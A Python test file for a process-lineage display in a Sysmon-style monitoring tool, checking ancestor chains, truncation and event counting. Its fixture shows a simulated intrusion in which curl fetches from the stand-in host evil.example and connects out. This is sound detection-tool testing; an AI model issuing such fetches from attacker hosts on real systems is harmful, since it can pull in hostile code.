"""The processes behind an event, from their ancestors on."""

from __future__ import annotations

from tests.views.cast import Cast, guid, intrusion, line_text

from pysmon.views.chain import chain
from pysmon.views.lineage import Lineage
from pysmon.views.words import Screen

CHAIN = """\
init [1]  joe  began earlier
  > bash [100]  joe  since 2026-11-21 08:15:00.100  bash -l
    > curl [101]  joe  since 2026-11-21 08:15:00.200  env curl http://evil.example/x then curl http://evil.example/x
      2026-11-21 08:15:00.500  curl (101) connected to 192.0.2.1:443 (tcp)"""


def test_a_chain_goes_from_the_oldest_ancestor_to_what_was_done() -> None:
    cast = intrusion()
    lines = chain(Lineage(cast.entries).get(guid(101)), cast.entries[4:5], Screen())
    assert "\n".join(map(line_text, lines)) == CHAIN


def test_an_event_without_a_process_stands_alone() -> None:
    cast = intrusion()
    assert [line_text(line) for line in chain(None, cast.entries[4:5], Screen())] == [
        "2026-11-21 08:15:00.500  curl (101) connected to 192.0.2.1:443 (tcp)"
    ]


def test_of_a_long_line_the_middle_is_left_away() -> None:
    cast = Cast()
    for pid in range(2, 52):
        cast.run(pid, "x", by=pid - 1)
    lines = [line_text(line) for line in chain(Lineage(cast.entries).get(guid(51)), [], Screen(boxes=True))]
    assert [lines[0][:8], lines[1], len(lines)] == ["init [1]", "  … 39 more", 13]
    assert lines[-1].lstrip().startswith("↳ x [51]")


def test_of_many_events_the_first_are_told_and_the_rest_counted() -> None:
    cast = Cast()
    cast.run(5, "scan")
    for _ in range(500):
        cast.connect(5, "192.0.2.1")
    lines = [line_text(line) for line in chain(Lineage(cast.entries).get(guid(5)), cast.entries[1:], Screen())]
    assert len(lines) == 2 + 10 + 1
    assert lines[-1].strip() == "... 490 more such events, until 2026-11-21 08:15:50.100"
